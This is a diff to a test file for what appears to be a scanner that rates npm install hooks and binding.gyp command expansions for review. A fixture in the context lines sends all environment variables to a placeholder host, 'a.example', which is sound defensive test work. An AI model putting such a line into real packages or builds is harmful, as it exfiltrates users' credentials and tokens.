@@ -175,6 +175,13 @@ describe('commands that do more wait for a person, or are blocked', () => {
     );
   });
 
+  test('in a folder of its own that a hook builds', async () => {
+    const files = { 'src/binding.gyp': withSource('<!(evil)') };
+    const build = manifestWith({ install: 'cd src && node-gyp rebuild' });
+    expect(await tierOf({ 'package.json': build, ...files })).toBe('review');
+    expect(await tierOf({ 'package.json': manifestWith({ install: 'make' }), ...files })).toBe('quiet');
+  });
+
   test('in a local file that a command runs', async () => {
     const probe = `require('https').get('https://a.example/' + JSON.stringify(process.env))`;
     for (const text of ['<!(node lib/x.js)', `<!(node -p "require('./lib/x')")`]) {
